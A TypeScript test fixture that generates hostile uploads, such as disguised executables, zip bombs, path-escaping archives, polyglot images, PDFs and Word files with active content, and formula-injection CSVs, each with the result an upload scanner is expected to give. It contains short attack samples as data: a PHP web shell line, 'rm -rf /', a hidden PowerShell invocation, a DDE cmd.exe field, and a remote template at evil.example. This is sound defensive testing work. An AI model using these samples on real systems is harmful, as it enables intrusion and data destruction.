import type { AttachmentArea, ScanCode } from '@portal/contract'
import { ascii, deflated, docx, gif, joined, jpeg, ole, pdf, pdfStream, png, pptx, xlsx, zipOf } from './make-files.ts'

/** A malicious upload, or one at a limit, and the expected result of the scan. */
export interface HostileFile {
  readonly what: string
  readonly name: string
  readonly bytes: Buffer
  readonly code: ScanCode
  /** The public report by default. */
  readonly area?: AttachmentArea
  readonly warnings?: readonly string[]
  /** The stored name, if it differs. */
  readonly kept?: string
}

const hex = (text: string) => Buffer.from(text.replace(/\s/g, ''), 'hex')
// In two halves, so that antivirus programs do not flag this file.
const eicar = ascii(['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD', '-ANTIVIRUS-TEST-FILE!$H+H*'].join(''))
const pe = joined(
  'MZ',
  hex('9000030000000400 0000ffff0000b8'),
  Buffer.alloc(41),
  hex('80000000'),
  Buffer.alloc(64),
  'PE\0\0',
)
const elf = joined(hex('7f454c46 02010100'), Buffer.alloc(64))
const machO = joined(hex('cffaedfe 07000001'), Buffer.alloc(64))
const fatMachO = joined(hex('cafebabe 00000002'), Buffer.alloc(64))
const javaClass = joined(hex('cafebabe 00000034'), Buffer.alloc(64))
const shortcut = joined(hex('4c000000 01140200 00000000 c0000000 00000046'), Buffer.alloc(64))
const script = ascii('<script>alert(1)</script>')
const svg = ascii('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
const html = ascii('<!doctype html><html><script>alert(1)</script></html>')
const msi = joined(ole('Directory'), hex('84100c0000000000c000000000000046'))
const megabyte = 1024 * 1024
const maxReportBytes = 20 * megabyte
const maxAssistanceBytes = 2 * megabyte
const textOf = (size: number) => Buffer.alloc(size, 'a')
const ok = 'SUCCESS_ANTIVIRUS'

const file = (what: string, name: string, bytes: Buffer | string, code: ScanCode, more: Partial<HostileFile> = {}) => ({
  what,
  name,
  code,
  ...more,
  bytes: typeof bytes === 'string' ? ascii(bytes) : bytes,
})

// biome-ignore format: a table
const programs = (): HostileFile[] => [
  file('a program of Windows',                     'gioco.exe',            pe,        'FILE_ESEGUIBILE'),
  file('the same as a PDF',                        'fattura.pdf',          pe,        'FILE_ESEGUIBILE'),
  file('the same as an image',                     'foto.jpg',             pe,        'FILE_ESEGUIBILE'),
  file('the same as a text',                       'nota.txt',             pe,        'FILE_ESEGUIBILE'),
  file('the same behind two extensions',           'fattura.pdf.exe',      pe,        'FILE_ESEGUIBILE'),
  file('the same before the extension of a PDF',   'fattura.exe.pdf',      pdf(),     'FILE_ESEGUIBILE'),
  file('a library',                                'lib.dll',              pe,        'FILE_ESEGUIBILE'),
  file('a screen saver',                           'foto.scr',             pe,        'FILE_ESEGUIBILE'),
  file('a program of Linux as a PDF',              'atto.pdf',             elf,       'FILE_ESEGUIBILE'),
  file('a program of Linux by its name',           'programma.elf',        elf,       'FILE_ESEGUIBILE'),
  file('a program of macOS as a document',         'atto.docx',            machO,     'FILE_ESEGUIBILE'),
  file('one for several processors as a photo',    'foto.png',             fatMachO,  'FILE_ESEGUIBILE'),
  file('Java as a photo',                          'foto.gif',             javaClass, 'FILE_ESEGUIBILE'),
  file('a shortcut of Windows as a document',      'leggimi.doc',          shortcut,  'FILE_ESEGUIBILE'),
  file('a shortcut by its name',                   'leggimi.lnk',          shortcut,  'FILE_ESEGUIBILE'),
  file('an installer as a document',               'atto.doc',             msi,       'FILE_ESEGUIBILE'),
  file('an installer by its name',                 'atto.msi',             msi,       'FILE_ESEGUIBILE'),
  file('Android code as a text',                   'nota.txt',             joined('dex\n035\0', Buffer.alloc(64)), 'FILE_ESEGUIBILE'),
  file('WebAssembly as a PDF',                     'atto.pdf',             hex('0061736d01000000'), 'FILE_ESEGUIBILE'),
  file('Windows help as a document',               'guida.doc',            joined('ITSF', Buffer.alloc(64)), 'FILE_ESEGUIBILE'),
  file('a shell script as a text',                 'nota.txt',             '#!/bin/sh\nrm -rf /\n', 'FILE_ESEGUIBILE'),
  file('a shell script behind a byte order mark',  'nota.txt',             joined(hex('efbbbf'), '#!/bin/sh\n'), 'FILE_ESEGUIBILE'),
  file('a shell script by its name',               'installa.sh',          'echo ciao', 'FILE_ESEGUIBILE'),
  file('a batch file by its name',                 'installa.bat',         'dir', 'FILE_ESEGUIBILE'),
  file('a batch file as a text',                   'nota.txt',             '@echo off\r\ndel /q *.*\r\n', 'FILE_ESEGUIBILE'),
  file('Visual Basic as a text',                   'nota.txt',             'Set x = CreateObject("WScript.Shell")\r\nx.Run "calc"', 'FILE_ESEGUIBILE'),
  file('Visual Basic by its name',                 'nota.vbs',             'MsgBox 1', 'FILE_ESEGUIBILE'),
  file('JavaScript as a text',                     'nota.txt',             'var a = new ActiveXObject("WScript.Shell");', 'FILE_ESEGUIBILE'),
  file('JavaScript by its name',                   'nota.js',              'alert(1)', 'FILE_ESEGUIBILE'),
  file('PowerShell as a text',                     'nota.txt',             'powershell.exe -nop -w hidden -enc AAAA', 'FILE_ESEGUIBILE'),
  file('PHP as a text',                            'nota.txt',             '<?php system($_GET["c"]); ?>', 'FILE_ESEGUIBILE'),
  file('PHP by its name',                          'nota.php',             '<?php', 'FILE_ESEGUIBILE'),
  file('an HTML application by its name',          'nota.hta',             html, 'FILE_ESEGUIBILE'),
]

const archives = async (): Promise<HostileFile[]> => {
  const jar = await zipOf({ 'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0', 'A.class': javaClass })
  const apk = await zipOf({ 'AndroidManifest.xml': 'x', 'classes.dex': 'dex\n035' })
  const bomb = await zipOf({ 'vuoto.txt': Buffer.alloc(60 * megabyte) })
  let nested = await zipOf({ 'fondo.txt': 'fondo' })
  for (let depth = 0; depth < 5; depth++) nested = await zipOf({ 'dentro.zip': nested })
  const many = await zipOf(Object.fromEntries(Array.from({ length: 6000 }, (_, index) => [`${index}.txt`, 'x'])))
  const encrypted = await zipOf({ 'segreto.txt': 'segreto' })
  // Bit 0 of the flags, in the local header and in the directory.
  encrypted.writeUInt16LE(encrypted.readUInt16LE(6) | 1, 6)
  const directory = encrypted.indexOf(ascii('PK\x01\x02'))
  encrypted.writeUInt16LE(encrypted.readUInt16LE(directory + 8) | 1, directory + 8)
  const slipped = await zipOf({ 'aa/aa/evil.txt': 'x' })
  for (let at = slipped.indexOf('aa/aa/'); at >= 0; at = slipped.indexOf('aa/aa/', at)) slipped.write('../../', at)
  // biome-ignore format: a table
  return [
    file('Java packed, as a document',             'atto.docx',            jar,       'FILE_ESEGUIBILE'),
    file('Java packed, by its name',               'atto.jar',             jar,       'FILE_ESEGUIBILE'),
    file('Java packed, as an archive',             'atti.zip',             jar,       'FILE_ESEGUIBILE', { area: 'case' }),
    file('an app of Android as a document',        'atto.xlsx',            apk,       'FILE_ESEGUIBILE'),
    file('a program in an archive',                'atti.zip',             await zipOf({ 'gioco.exe': pe }), 'FILE_ESEGUIBILE', { area: 'case' }),
    file('a program in an archive, renamed',       'atti.zip',             await zipOf({ 'foto.jpg': pe }), 'FILE_ESEGUIBILE', { area: 'case' }),
    file('a program within a document',            'atto.docx',            await docx({ 'word/media/foto.png': pe }), 'FILE_ESEGUIBILE'),
    file('an archive where none is taken',         'atti.zip',             await zipOf({ 'nota.txt': 'x' }), 'ESTENSIONE_ERROR'),
    file('an archive as a document',               'atto.docx',            await zipOf({ 'nota.txt': 'x' }), 'TIPO_ERROR'),
    file('a spreadsheet as a text document',       'atto.docx',            await xlsx(), 'TIPO_ERROR'),
    file('a presentation as a spreadsheet',        'conti.xlsx',           await pptx(), 'TIPO_ERROR'),
    file('what is cut off as a document',          'atto.docx',            (await docx()).subarray(0, 120), 'TIPO_ERROR'),
    file('a zip bomb',                             'atti.zip',             bomb,      'VIRUS_FOUND', { area: 'case' }),
    file('a zip bomb as a document',               'atto.docx',            await docx({ 'word/vuoto.xml': Buffer.alloc(60 * megabyte) }), 'VIRUS_FOUND'),
    file('archives in archives',                   'atti.zip',             nested,    'VIRUS_FOUND', { area: 'case' }),
    file('an archive of very many entries',        'atti.zip',             many,      'VIRUS_FOUND', { area: 'case' }),
    file('an archive that nobody can look into',   'atti.zip',             encrypted, 'PASSWORD_ERROR', { area: 'case' }),
    file('an archive that climbs out of its folder', 'atti.zip',           slipped,   'TIPO_ERROR', { area: 'case' }),
    file('EICAR in an archive',                    'atti.zip',             await zipOf({ 'prova.txt': eicar }), 'VIRUS_FOUND', { area: 'case' }),
    file('EICAR two archives deep',                'atti.zip',             await zipOf({ 'a.zip': await zipOf({ 'b.txt': eicar }) }), 'VIRUS_FOUND', { area: 'case' }),
    file('EICAR in a document',                    'atto.docx',            await docx({ 'word/media/nota.txt': eicar }), 'VIRUS_FOUND'),
  ]
}

// biome-ignore format: a table
const disguises = async (): Promise<HostileFile[]> => [
  file('EICAR',                                    'prova.txt',            eicar,     'VIRUS_FOUND'),
  file('EICAR as its own program',                 'eicar.com',            eicar,     'FILE_ESEGUIBILE'),
  file('EICAR behind the head of a photo',         'foto.jpg',             joined(jpeg(), eicar), 'VIRUS_FOUND'),
  file('EICAR renamed to a PDF',                   'prova.pdf',            eicar,     'TIPO_ERROR'),
  file('HTML as an image',                         'foto.png',             html,      'TIPO_ERROR'),
  file('HTML as a text',                           'nota.txt',             html,      'TIPO_ERROR'),
  file('SVG with a script as an image',            'foto.jpg',             svg,       'TIPO_ERROR'),
  file('SVG with a script as a text',              'nota.txt',             svg,       'TIPO_ERROR'),
  file('SVG by its name',                          'logo.svg',             svg,       'ESTENSIONE_ERROR'),
  file('HTML by its name',                         'pagina.html',          html,      'ESTENSIONE_ERROR'),
  file('a page with a script, for a case',         'pagina.html',          html,      ok, { area: 'case', warnings: ['contenuto_attivo'] }),
  file('a photo as a PDF',                         'atto.pdf',             jpeg(),    'TIPO_ERROR'),
  file('a PDF as a photo',                         'foto.jpg',             pdf(),     'TIPO_ERROR'),
  file('bytes by chance as a text',                'nota.txt',             joined('nota', hex('00010203')), 'TIPO_ERROR'),
  file('a PDF that is an archive too',             'atto.pdf',             joined(pdf(), await zipOf({ 'a.txt': 'x' })), 'TIPO_ERROR'),
  file('a photo that is an archive too',           'foto.jpg',             joined(jpeg(), await zipOf({ 'a.txt': 'x' })), 'TIPO_ERROR'),
  file('a photo with PHP behind it',               'foto.jpg',             joined(jpeg(), '<?php system("id"); ?>'), 'TIPO_ERROR'),
  file('an image with a script behind it',         'foto.png',             joined(png(), script), 'TIPO_ERROR'),
  file('a GIF that is JavaScript',                 'foto.gif',             'GIF89a/*\x01\x00\x00*/=1;alert(document.domain)//', 'TIPO_ERROR'),
  file('a GIF that is HTML too',                   'foto.gif',             joined(gif(), html), 'TIPO_ERROR'),
  file('a bitmap that is JavaScript',              'foto.bmp',             'BM=1;alert(document.domain);//aaaaaaaaaaaaaaaaaaaa', 'TIPO_ERROR'),
  file('a PDF behind HTML',                        'atto.pdf',             joined(html, pdf()), 'TIPO_ERROR'),
  file('an encrypted document',                    'atto.docx',            ole('EncryptedPackage'), 'PASSWORD_ERROR'),
  file('an old document without one',              'atto.doc',             ole('Workbook'), 'TIPO_ERROR'),
  file('a PDF with JavaScript',                    'atto.pdf',             pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), ok, { warnings: ['contenuto_attivo'] }),
  file('the same with escaped names',              'atto.pdf',             pdf('/Names << /J#61vaScript 5 0 R >>'), ok, { warnings: ['contenuto_attivo'] }),
  file('the same in packed objects',               'atto.pdf',             pdfStream('/Type /ObjStm /Filter /FlateDecode', deflated('1 0 << /S /JavaScript /JS 2 0 R >>')), ok, { warnings: ['contenuto_attivo'] }),
  file('the same in objects packed as digits',     'atto.pdf',             pdfStream('/Type /ObjStm /Filter /ASCIIHexDecode', ascii(`${ascii('1 0 << /S /JavaScript >>').toString('hex')}>`)), ok, { warnings: ['contenuto_attivo'] }),
  file('the same deflated and as digits  ',         'atto.pdf',             pdfStream('/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]', ascii(`${deflated('1 0 << /S /JavaScript >>').toString('hex')}>`)), ok, { warnings: ['contenuto_attivo'] }),
  file('objects packed in a way nobody opens',     'atto.pdf',             pdfStream('/Type /ObjStm /Filter /LZWDecode', ascii('1 0 <<')), ok, { warnings: ['contenuto_attivo'] }),
  file('a PDF that starts a program',              'atto.pdf',             pdf('/AA << /O << /S /Launch /F (cmd.exe) >> >>'), ok, { warnings: ['contenuto_attivo'] }),
  file('a PDF with a file in it',                  'atto.pdf',             pdf('/Names << /EmbeddedFiles 6 0 R >>'), ok, { warnings: ['contenuto_attivo'] }),
  file('a document with macros',                   'atto.docx',            await docx({ 'word/vbaProject.bin': 'x' }), ok, { warnings: ['macro'] }),
  file('an old document with macros',              'atto.doc',             ole('WordDocument', '_VBA_PROJECT'), ok, { warnings: ['macro'] }),
  file('a document with a template elsewhere',     'atto.docx',            await docx({ 'word/_rels/settings.xml.rels': '<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>' }), ok, { warnings: ['contenuto_attivo'] }),
  file('the same with a prefix',                   'atto.docx',            await docx({ 'word/_rels/settings.xml.rels': '<r:Relationships xmlns:r="x"><r:Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></r:Relationships>' }), ok, { warnings: ['contenuto_attivo'] }),
  file('the same in UTF-16',                       'atto.docx',            await docx({ 'word/_rels/settings.xml.rels': Buffer.from('\ufeff<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>', 'utf16le') }), ok, { warnings: ['contenuto_attivo'] }),
  file('a document whose field runs a command',    'atto.docx',            await docx({ 'word/header1.xml': '<w:hdr><w:instrText>DDE</w:instrText><w:instrText xml:space="preserve">AUTO c:\\\\cmd.exe</w:instrText></w:hdr>' }), ok, { warnings: ['contenuto_attivo'] }),
  file('a document with an object of a program',   'atto.docx',            await docx({ 'word/embeddings/oleObject1.bin': 'x' }), ok, { warnings: ['contenuto_attivo'] }),
  file('a text whose object is split',             'atto.rtf',             '{\\rtf1{\\obj{}ect{\\*\\obj{}data 0105}}}', ok, { warnings: ['contenuto_attivo'] }),
  file('a text with an object that updates',       'atto.rtf',             '{\\rtf1{\\object\\objupdate{\\*\\objdata 0105}}}', ok, { warnings: ['contenuto_attivo'] }),
  file('a table with a command',                   'conti.csv',            '=cmd|\' /C calc\'!A0,1\n', ok, { warnings: ['contenuto_attivo'] }),
  file('a document for macros where none is taken', 'atto.docm',           await docx(), 'ESTENSIONE_ERROR'),
]

// biome-ignore format: a table
const namesAndSizes = (): HostileFile[] => [
  file('nothing at all',                           'vuoto.txt',            '',        'FILE_VUOTO'),
  file('nothing as a PDF',                         'vuoto.pdf',            '',        'FILE_VUOTO'),
  file('20 MB exactly',                            'limite.txt',           textOf(maxReportBytes), ok),
  file('20 MB and one byte',                       'oltre.txt',            textOf(maxReportBytes + 1), 'DIMENSIONE_ERROR'),
  file('25 MB',                                    'oltre.pdf',            textOf(25 * megabyte), 'DIMENSIONE_ERROR'),
  file('2 MB exactly, for assistance',             'limite.txt',           textOf(maxAssistanceBytes), ok, { area: 'assistance' }),
  file('2 MB and one byte, for assistance',        'oltre.txt',            textOf(maxAssistanceBytes + 1), 'DIMENSIONE_ERROR', { area: 'assistance' }),
  file('a name with a path of Unix',               '../../etc/passwd.txt', 'x1',      ok, { kept: 'passwd.txt' }),
  file('a name with a path of Windows',            'C:\\Windows\\win.txt', 'x2',      ok, { kept: 'win.txt' }),
  file('a name that turns the direction',          'fattura\u202efdp.exe', pe,        'FILE_ESEGUIBILE'),
  file('a turned name of a harmless file',         'foto\u202egpj.txt',    'x3',      ok, { kept: 'fotogpj.txt' }),
  file('a null byte before the extension',         'foto.exe\0.jpg',       jpeg(),    'FILE_ESEGUIBILE'),
  file('a null byte before a program',             'foto.jpg\0.exe',       pe,        'FILE_ESEGUIBILE'),
  file('a name of 300 characters',                 `${'a'.repeat(300)}.txt`, 'x4',    ok, { kept: `${'a'.repeat(95)}.txt` }),
  file('a name of Windows’ own',                   'CON.txt',              'x5',      ok, { kept: '_CON.txt' }),
  file('another of them',                          'com1.tar.txt',         'x6',      ok, { kept: '_com1.tar.txt' }),
  file('a name that ends in dots',                 'programma.exe. .',     pe,        'FILE_ESEGUIBILE'),
  file('a name with markup',                       '<img src=x onerror=alert(1)>.txt', 'x7', ok, { kept: '_img src=x onerror=alert(1)_.txt' }),
  file('no extension',                             'README',               'x8',      'ESTENSIONE_ERROR'),
  file('an extension alone',                       '.txt',                 'x9',      'ESTENSIONE_ERROR'),
  file('an extension that objects inherit',        'nota.constructor',     'x10',     'ESTENSIONE_ERROR'),
  file('spaces in the extension',                  'nota.t xt',            'x11',     'ESTENSIONE_ERROR'),
]

/** Generates every hostile upload; none of them is stored as a file. */
export const hostileFiles = async (): Promise<HostileFile[]> => [
  ...programs(),
  ...(await archives()),
  ...(await disguises()),
  ...namesAndSizes(),
]
